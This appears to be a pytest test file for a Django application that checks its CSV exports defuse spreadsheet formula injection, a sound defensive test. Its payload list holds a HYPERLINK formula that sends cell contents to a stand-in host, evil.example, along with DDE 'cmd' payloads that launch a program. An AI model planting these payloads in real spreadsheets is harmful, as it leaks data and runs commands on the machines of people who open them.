"""Imports and the CSV files Envoy writes, against the red team's findings: formula cells
(F-02, F-03), the reader's cost (F-07), rows that must not fail a whole import (F-08), runs
whose process died (F-13) and concurrent identical imports (F-14)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from cases.models import Case, CaseSnapshot
from core.spreadsheets import FORMULA_STARTS
from tests.helpers import finished, upload
from tests.imports import json_bytes, row

PROJECT = Path(__file__).resolve().parents[2]
PACKAGES = ("accounts", "audit", "cases", "catalogue", "config", "contract", "core")
PACKAGES += ("missions", "phases", "recommendations")

# The review's payloads, one for each way a spreadsheet starts a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(content.decode())) for cell in line]


def _runnable(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


# F-02 and F-03: every CSV Envoy writes makes formula cells inert.


@pytest.mark.django_db
def test_an_import_report_csv_never_holds_a_formula(client, analyst):
    """F-02: keys that start like formulas come back in rows.csv with a leading quote."""
    rows = [row(key=payload, country=f"Formula{n}") for n, payload in enumerate(FORMULAS)]
    rows.append(row(key=FORMULAS[0], region="atlantis"))  # a rejected row keeps its key too
    task = finished(analyst.client, upload(analyst.client, json_bytes(rows, lines=True), "f.jsonl"))
    client.force_login(analyst.user)
    response = client.get(f"/tasks/{task['id']}/rows.csv")
    content = b"".join(response.streaming_content)
    cells = _cells(content)
    assert _runnable(cells) == []
    for payload in FORMULAS:  # an import strips a key's blanks, tab and CR included
        assert "'" + payload.strip() in cells


@pytest.mark.django_db
def test_the_import_template_never_holds_a_formula(client, analyst):
    """F-03: a case whose country and notes start like formulas is the template's example
    row, its cells inert."""
    first = CaseSnapshot.objects.select_related("case").order_by("case__slug", "date").first()
    Case.objects.filter(pk=first.case_id).update(country=FORMULAS[0])
    CaseSnapshot.objects.filter(pk=first.pk).update(input={**first.input, "notes": FORMULAS[1]})
    client.force_login(analyst.user)
    cells = _cells(client.get("/situations/import/template.csv").content)
    assert _runnable(cells) == []
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells


@pytest.mark.django_db
def test_the_library_export_never_holds_a_formula(client, viewer):
    """F-02: the library export neutralises every payload (title, country, summary)."""
    for case, payload in zip(Case.objects.order_by("slug")[: len(FORMULAS)], FORMULAS, strict=True):
        Case.objects.filter(pk=case.pk).update(title=payload, country=payload, summary=payload)
    client.force_login(viewer.user)
    cells = _cells(client.get("/library/export.csv").content)
    assert _runnable(cells) == []
    assert all(("'" + payload) in cells for payload in FORMULAS)


def test_every_csv_writer_goes_through_the_shared_one():
    """F-02: no module of Envoy writes CSV but through core.spreadsheets."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(PROJECT))
        for package in PACKAGES
        for path in (PROJECT / package).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["core/spreadsheets.py"]
